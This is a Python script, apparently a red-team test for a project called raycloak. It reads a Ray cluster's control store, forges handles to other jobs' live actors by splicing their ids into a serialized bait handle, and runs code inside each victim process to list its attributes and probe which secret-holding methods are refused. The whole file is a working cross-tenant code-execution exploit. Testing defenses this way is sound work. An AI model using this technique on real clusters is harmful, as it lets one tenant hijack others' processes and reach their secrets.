"""A program of its own that holds the cluster's token, and runs code in the process of every actor of a run.

It knows no handle, no name and no secret. It takes the actors' ids from Ray's control store and forges handles from
one of its own actors. It prints what it found, as JSON.
"""

import json
import os
import sys

import ray
from ray.core.generated import core_worker_pb2, gcs_pb2

from raycloak.coordinator.cluster import relays
from raycloak.coordinator.vaults.calls import ActorRefusal

BAIT = {
    "LedgerActor": ("sqlite:////nonexistent/ledger",),
    "OrchestratorActor": ("/nonexistent",),
    "MaskedAggregatorActor": (None,),
    "TrainWorkerActor": ("bait", None),
}
"""Arguments of the own actors whose handles are forged into those of others; whether they start does not matter."""
WANTED = ("_run", "_store", "_stage", "__init__", "__reduce__", "receive")
"""Of the plain classes, where their secrets are; and methods that are none of the calls of a run."""


def alive(name):
    """Return the control store's rows of all actors of a class."""
    state = ray._private.state.state
    state._connect_and_get_accessor()
    rows = map(gcs_pb2.ActorTableData.FromString, state._global_state_accessor.get_actor_table(None, None))
    return [row for row in rows if row.state == gcs_pb2.ActorTableData.ALIVE and row.class_name == name]


def forged(name, row):
    """Return a handle to another driver's actor."""
    cls = getattr(relays, name)
    groups = {"concurrency_groups": {"control": 1}} if hasattr(cls, "receive_beside") else {}
    own = ray.remote(num_cpus=0, max_restarts=0, **groups)(cls).remote(*BAIT[name])
    template = ray._private.worker.global_worker.core_worker.serialize_actor_handle(own._ray_actor_id)
    template = template[0] if isinstance(template, tuple) else template
    handle = core_worker_pb2.ActorHandle.FromString(template.replace(own._ray_actor_id.binary(), row.actor_id))
    handle.creation_job_id = row.job_id  # a process ends if it is asked to work for another job than its own
    handle.actor_creation_task_function_descriptor.CopyFrom(row.function_descriptor)
    ray.kill(own)
    return ray.actor.ActorHandle._deserialization_helper(handle.SerializeToString(), True)


def look(actor):
    """Run in the victim's process: return what it is, what it holds, and which ways to a secret it refuses."""
    refused = []
    for name in WANTED:
        try:
            actor.vault.call(name, 1, (b"{}",))
        except ActorRefusal:
            refused.append(name)
    return {"pid": os.getpid(), "attributes": sorted(vars(actor)), "refused": refused}


def main():
    ray.init(address=os.environ["RAY_ADDRESS"], log_to_driver=False, configure_logging=False)
    found = []
    for name in BAIT:
        for row in alive(name):
            victim = forged(name, row)
            found.append({"actor": name, **ray.get(victim.__ray_call__.remote(look), timeout=120)})
    sys.stdout.write(json.dumps(found))


if __name__ == "__main__":
    main()
